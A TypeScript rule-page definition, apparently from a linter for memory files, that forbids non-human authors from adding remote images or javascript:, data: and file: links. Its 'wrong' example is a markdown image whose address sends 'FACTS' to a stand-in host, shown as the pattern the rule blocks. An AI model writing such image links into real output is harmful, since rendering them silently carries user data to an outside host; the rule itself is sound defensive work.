import type { RulePage } from '../rule-page.ts';

export const page: RulePage = {
  forbids:
    'A non-human adds no remote images and no `javascript:`, `data:` or `file:` links. Queries of more than 40 characters and link texts that name another host are warnings.',
  why: 'An image is fetched whenever the memory is shown, and its address can carry facts away. A link that says one host and leads to another is how people are fooled.',
  wrong: '![x](https://h.example/p?d=FACTS)',
  fix: 'Keep images in the repository, write the address a link leads to, shorten queries.',
};
